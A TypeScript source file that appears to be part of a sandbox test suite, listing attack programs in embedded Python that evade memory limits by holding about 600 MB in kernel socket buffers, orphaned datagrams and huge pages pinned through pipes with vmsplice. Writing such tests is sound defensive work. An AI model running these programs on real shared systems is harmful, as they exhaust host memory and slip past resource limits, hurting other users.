import { type Attack, python } from './attack.ts';

/** Fills sockets that nobody reads, 28 pairs or 35 MB in each of 20 processes. */
const filling = (pair: string) => python`
def connected():
    listening = socket.create_server(('127.0.0.1', 0))
    client = socket.create_connection(listening.getsockname())
    return client, listening.accept()[0]
def fill(end):
    try: end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 16 * MB)
    except OSError: pass
    end.setblocking(False)
    sent = 0
    try:
        while True: sent += end.send(block)
    except BlockingIOError: return sent
def hold():
    kept, sent = [], 0
    for _ in range(28):
        if sent > 35 * MB: break
        kept.append(${pair})
        sent += sum(map(fill, kept[-1]))
    os.write(total, struct.pack('Q', sent))
    return kept
block = b'x' * 65536
counter, total = os.pipe()
children = [start(hold) for _ in range(20)]
try:
    if held(children) and sum(struct.unpack('20Q', os.read(counter, 160))) > 600 * MB: succeeded()
finally: end(children)`;

/** Programs that use more memory than they may in buffers of the kernel, which are no process's memory. */
export const kernelBuffers: readonly Attack[] = [
  { name: 'holds 600 MB in buffers of TCP connections', program: filling('connected()') },
  { name: 'holds 600 MB in buffers of unix sockets', program: filling('socket.socketpair()') },
  {
    name: 'holds 600 MB in datagrams whose senders are gone',
    program: python`
def hold():
    receivers = []
    for number in range(40):
        receiver = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        receiver.bind(f'\0{OWN}-{os.getpid()}-{number}')
        for _ in range(10):
            sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            sender.setblocking(False)
            sender.sendto(datagram, receiver.getsockname())
        receivers.append(receiver)
    return receivers
datagram = b'x' * 150_000
children = [start(hold) for _ in range(12)]
try:
    if held(children): succeeded()
finally: end(children)`,
  },
  {
    // A pipe has room for 16 pages; a byte of a huge one keeps all of it.
    name: 'pins 600 MB of huge pages by pipes',
    program: python`
MADV_HUGEPAGE, HUGE = 14, 2 * MB
libc.mmap.restype = ctypes.c_void_p
pipes, pinned = [], 0
while pinned < 600 * MB:
    pipes.append(os.pipe())
    address = libc.mmap(None, ctypes.c_size_t(34 * MB), 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, ctypes.c_long(0))
    first = (address + HUGE - 1) // HUGE * HUGE
    check(libc.madvise(ctypes.c_void_p(first), ctypes.c_size_t(16 * HUGE), MADV_HUGEPAGE))
    for page in range(first, first + 16 * HUGE, HUGE):
        ctypes.memset(page, 1, HUGE)
        check(libc.vmsplice(pipes[-1][1], struct.pack('QQ', page, 1), ctypes.c_size_t(1), 0))
        pinned += HUGE
    libc.munmap(ctypes.c_void_p(address), ctypes.c_size_t(34 * MB))
time.sleep(AFTER)
succeeded()`,
  },
];
